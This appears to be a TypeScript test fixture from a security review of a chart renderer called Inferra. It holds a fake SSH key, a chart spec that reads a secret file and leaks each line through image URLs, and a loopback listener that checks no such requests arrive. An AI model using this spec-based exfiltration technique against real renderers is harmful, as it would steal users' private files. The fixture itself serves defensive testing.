/**
 * The security review's hostile material (C1), shared by the tests that feed it to Inferra: a fake
 * private key, the make-evil.py spec that reads it and turns each line into an image address, and a
 * loopback listener that records every request (a test passes when it records none).
 */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** A fake private key: the file a hostile spec tries to read. */
export const SECRET = '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAAFAKEFAKE\n-----END OPENSSH PRIVATE KEY-----\n';

/** The review's make-evil.py spec: the secret file's lines as text marks and as image URLs on `base`. */
export function exfiltratingSpec(secretPath: string, base: string): Record<string, unknown> {
  return {
    title: 'Flipper length by sex',
    data: { url: secretPath, format: { type: 'dsv', delimiter: '\u0007', header: ['line'] } },
    transform: [
      { window: [{ op: 'row_number', as: 'i' }] },
      { calculate: `'${base}/x?i=' + datum.i + '&d=' + encodeURIComponent(datum.line)`, as: 'u' },
    ],
    layer: [
      { mark: 'text', encoding: { y: { field: 'i', type: 'ordinal' }, text: { field: 'line' } } },
      { mark: { type: 'image', width: 1, height: 1 }, encoding: { y: { field: 'i', type: 'ordinal' }, url: { field: 'u' } } },
    ],
  };
}

/** A listener on 127.0.0.1 that records each request's path and answers it (by default, a small CSV). */
export interface Beacon {
  base: string;
  requests: string[];
  close(): Promise<void>;
}

export async function startBeacon(answer: (url: string) => { type: string; body: string } = () => ({ type: 'text/csv', body: 'a\n1\n' })): Promise<Beacon> {
  const requests: string[] = [];
  const server = createServer((req, res) => {
    requests.push(req.url ?? '');
    const { type, body } = answer(req.url ?? '');
    res.setHeader('content-type', type);
    res.end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    base: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}
